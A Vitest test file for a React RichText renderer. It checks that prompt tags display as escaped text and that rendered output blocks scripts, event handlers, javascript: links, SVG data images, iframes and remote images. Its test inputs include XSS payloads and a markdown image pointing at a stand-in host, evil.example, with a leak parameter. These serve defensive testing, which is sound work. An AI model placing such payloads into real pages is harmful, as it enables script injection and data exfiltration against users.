import { renderToStaticMarkup } from 'react-dom/server';
import { expect, it } from 'vitest';
import { RichText } from './rich-text.tsx';

const html = (text: string) => renderToStaticMarkup(<RichText text={text} />);

it('shows tags of a prompt as text', () => {
	expect(html('<documents>\nfirst\n</documents>')).toContain('&lt;documents&gt;\nfirst\n&lt;/documents&gt;');
	expect(html('Answer in <b>one</b> word')).toContain('Answer in &lt;b&gt;one&lt;/b&gt; word');
});

it.each([
	['a script', '<script>alert(1)</script>', '<script'],
	['an event handler', 'x <img src=x onerror=alert(1)>', '<img'],
	['a script as an address', '[link](javascript:alert(1))', 'javascript:'],
	['a remote image', '![x](https://evil.example/p.png?leak=1)', '<img'],
	['an image that may hold scripts', '![x](data:image/svg+xml;base64,PHN2Zz4=)', '<img'],
	['a frame', '<iframe src="https://evil.example"></iframe>', '<iframe'],
])('never lets %s through', (_name, text, forbidden) => {
	expect(html(text)).not.toContain(forbidden);
});

it('shows what came with the text', () => {
	expect(html('![x](data:image/png;base64,iVBORw0KGgo=)')).toContain('<img src="data:image/png;base64,iVBORw0KGgo="');
	expect(html('![cat](https://evil.example/p.png)')).toContain('Image at evil.example was not loaded: cat');
	expect(html('[docs](https://example.com)')).toContain('rel="noopener noreferrer nofollow"');
});

it('shows JSON as JSON', () => {
	expect(html('{"city":"Paris"}')).toContain('&quot;city&quot;');
});
